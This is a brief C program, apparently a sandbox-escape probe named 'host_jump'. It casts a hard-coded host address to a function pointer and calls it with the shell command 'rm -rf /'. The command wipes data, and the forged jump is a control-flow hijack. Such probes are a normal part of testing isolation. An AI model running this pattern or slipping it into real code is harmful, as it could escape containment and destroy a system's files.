/* Jumps through a forged function pointer to an address of the host. */
#include <stdint.h>
#include <stdio.h>

typedef int function(const char *);

static int call(uintptr_t forged)
{
    return ((function *)forged)("rm -rf /");
}

int main(int argc, char **argv)
{
    (void)argv;
    puts("host_jump: calling into the host");
    fflush(stdout);
    return call(0x7ffff7c50d70 + (uintptr_t)argc);
}
